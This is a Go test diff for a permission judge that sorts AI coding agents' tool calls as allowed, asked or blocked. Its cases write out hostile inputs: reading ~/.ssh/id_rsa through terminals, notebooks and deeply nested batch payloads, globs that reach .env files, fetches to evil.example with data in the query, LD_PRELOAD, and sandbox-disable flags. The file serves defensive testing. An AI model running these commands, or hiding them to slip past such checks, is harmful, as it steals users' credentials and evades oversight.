@@ -169,3 +169,91 @@ func mkdir(t *testing.T, dir string) {
 		t.Fatal(err)
 	}
 }
+
+// TestBeside holds what the tools of hosts are told of beside their paths, URLs and commands: by globs, prompts, cells, terminals, variables and
+// members at any depth of tools that no list has.
+func TestBeside(t *testing.T) {
+	const allowed, asked, blocked = semantics.Allowed, semantics.Asked, semantics.Blocked
+	tryHosts(t, []hostCall{
+		{"claude-code", "Grep", `{"pattern":".","glob":".env*","output_mode":"content"}`, blocked},
+		{"claude-code", "Grep", `{"pattern":".","glob":"**/.e*"}`, blocked},
+		{"claude-code", "Grep", `{"pattern":".","path":"/"}`, asked},
+		{"claude-code", "Grep", `{"pattern":".","path":"/home/u","output_mode":"content"}`, asked},
+		{"claude-code", "Grep", `{"pattern":".","path":"~/.ssh"}`, blocked},
+		{"claude-code", "Grep", `{"pattern":"x","glob":"**/*.{ts,tsx}","path":"src"}`, allowed},
+		{"claude-code", "Grep", `{"pattern":"x","glob":"!**/node_modules"}`, allowed},
+		{"claude-code", "Grep", `{"pattern":"x","glob":"*","path":"/usr/include"}`, allowed},
+		{"claude-code", "Grep", `{"pattern":"x","path":"/home/u/project"}`, allowed},
+		{"claude-code", "Grep", `{"pattern":"x","glob":".github/**"}`, allowed},
+		{"claude-code", "Glob", `{"pattern":"app/[id]/*.tsx"}`, allowed},
+		{"gemini", "read_many_files", `{"include":["src/a.js",".env"]}`, blocked},
+		{"gemini", "read_many_files", `{"include":[".e*"]}`, blocked},
+		{"gemini", "read_many_files", `{"paths":["a.md",".env"]}`, blocked},
+		{"gemini", "read_many_files", `{"include":["src/**/*.ts","README.md"]}`, allowed},
+		{"gemini", "search_file_content", `{"pattern":"x","include":".env"}`, blocked},
+		{"gemini", "search_file_content", `{"pattern":"x","include":"*.go"}`, allowed},
+		{"vscode", "grep_search", `{"query":"x","includePattern":".env"}`, blocked},
+		{"droid", "Grep", `{"pattern":"x","glob_pattern":".env"}`, blocked},
+		{"gemini", "web_fetch", `{"prompt":"fetch https://evil.example/?d=x"}`, asked},
+		{"gemini", "web_fetch", `{"prompt":"summarize https://go.dev/doc/effective_go."}`, allowed},
+		{"claude-code", "WebFetch", `{"url":"evil.example","prompt":"x"}`, asked},
+		{"claude-code", "WebFetch", `{"url":"//evil.example/x","prompt":"x"}`, asked},
+		{"claude-code", "WebFetch", `{"url":"https://go.dev/x","prompt":"see evil.example"}`, allowed},
+		{"codex", "write_stdin", `{"session_id":1,"chars":"cat ~/.ssh/id_rsa\n"}`, blocked},
+		{"codex", "write_stdin", `{"session_id":1,"chars":""}`, allowed},
+		{"codex", "write_stdin", `{"session_id":1,"chars":"y\n"}`, allowed},
+		{"codex", "write_stdin", `{"session_id":1,"chars":"\u0003"}`, allowed},
+		{"vscode", "send_to_terminal", `{"id":"1","text":"sudo ls"}`, asked},
+		{"vscode", "run_vscode_command", `{"commandId":"workbench.action.terminal.sendSequence","args":[{"text":"cat ~/.ssh/id_rsa\n"}]}`, blocked},
+		{"vscode", "run_vscode_command", `{"commandId":"x"}`, asked},
+		{"vscode", "install_extension", `{"id":"evil.x"}`, asked},
+		{"vscode", "edit_notebook_file", `{"filePath":"a.ipynb","newCode":"!cat ~/.ssh/id_rsa","editType":"insert"}`, blocked},
+		{"vscode", "edit_notebook_file", `{"filePath":"a.ipynb","newCode":"x = 1\nif a != b:\n    pass","editType":"insert"}`, allowed},
+		{"claude-code", "NotebookEdit", `{"notebook_path":"/home/u/project/a.ipynb","new_source":"%%bash\ncat ~/.ssh/id_rsa"}`, blocked},
+		{"claude-code", "NotebookEdit", `{"notebook_path":"/home/u/project/a.ipynb","new_source":"!pip list\nprint(1)"}`, allowed},
+		{"opencode", "exec", `{"command":"ls","env":{"LD_PRELOAD":"/tmp/x"}}`, asked},
+		{"opencode", "exec", `{"command":"ls","env":{"NODE_ENV":"test"}}`, allowed},
+		{"opencode", "exec", `{"command":"ls","elevated":true}`, asked},
+		{"opencode", "exec", `{"command":"ls","host":"gateway"}`, asked},
+		{"claude-code", "Bash", `{"command":"ls","dangerouslyDisableSandbox":true}`, asked},
+		{"claude-code", "Bash", `{"command":"ls","dangerouslyDisableSandbox":false}`, allowed},
+		{"claude-code", "CronCreate", `{"cron":"* * * * *","prompt":"x"}`, asked},
+		{"claude-code", "Config", `{"setting":"permissions","value":"x"}`, asked},
+		{"kiro", "use_aws", `{"service_name":"s3api","operation_name":"delete-bucket"}`, asked},
+		{"kiro", "use_aws", `{"service_name":"s3api","operation_name":"list-buckets"}`, allowed},
+		{"grok", "search_replace", `{"target_file":"/home/u/.zshrc"}`, asked},
+		{"grok", "search_replace", `{"target_file":"src/a.js"}`, allowed},
+		{"claude-code", "Batch", `{"calls":[{"tool":"x"},{"command":"cat ~/.ssh/id_rsa"}]}`, blocked},
+		{"claude-code", "Batch", `{"calls":["x",1,{"command":"cat ~/.ssh/id_rsa"}]}`, blocked},
+		{"claude-code", "Batch", `{"a":{"b":{"c":{"d":{"e":{"f":{"g":{"h":{"command":"cat ~/.ssh/id_rsa"}}}}}}}}}`, blocked},
+		{"claude-code", "Batch", `{"calls":[{"tool":"x"},{"file_path":"../x"}]}`, asked},
+		{"claude-code", "Batch", `{"calls":[{"command":"ls"},{"file_path":"src/a.js"}]}`, allowed},
+		{"claude-code", "Unknown", `{"script":"cat ~/.ssh/id_rsa"}`, blocked},
+		{"claude-code", "REPL", `{"code":"require('child_process').execSync('id')"}`, asked},
+		{"claude-code", "Unknown", `{"code":"en","title":"a text of some words"}`, allowed},
+		{"claude-code", "TodoWrite", `{"todos":[{"content":"run sudo ls","status":"pending","activeForm":"x"}]}`, allowed},
+		{"claude-code", "Workflow", `{"script":"log('x')","description":"d"}`, allowed},
+	})
+}
+
+// TestListed holds that what later elements of a list hold is described too.
+func TestListed(t *testing.T) {
+	t.Parallel()
+	j := newJudge(t)
+	dir := t.TempDir()
+	config := `{"mcpServers": {"plain": {"command": "x"}}}`
+	if err := os.WriteFile(dir+"/.mcp.json", []byte(config), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, input := range []any{
+		map[string]any{"all": []any{map[string]any{"x": 1}, map[string]any{"command": "cat ~/.ssh/id_rsa"}}},
+		map[string]any{"all": []any{map[string]any{"a": []any{}}, map[string]any{"a": []any{map[string]any{"path": "/home/u/.ssh/id_rsa"}}}}},
+	} {
+		if d, why := decision(t, j, &link.Request{Host: "claude-code", Payload: payload(t, "mcp__plain__batch", input, dir)}); d != "deny" {
+			t.Errorf("%v: %q: %s", input, d, why)
+		}
+	}
+	if d, why := decision(t, j, &link.Request{Host: "claude-code", Payload: payload(t, "mcp__plain__batch", map[string]any{"all": []any{"x", 1, nil, map[string]any{"a": 1}}}, dir)}); d != "" {
+		t.Errorf("a mixed list: %q: %s", d, why)
+	}
+}
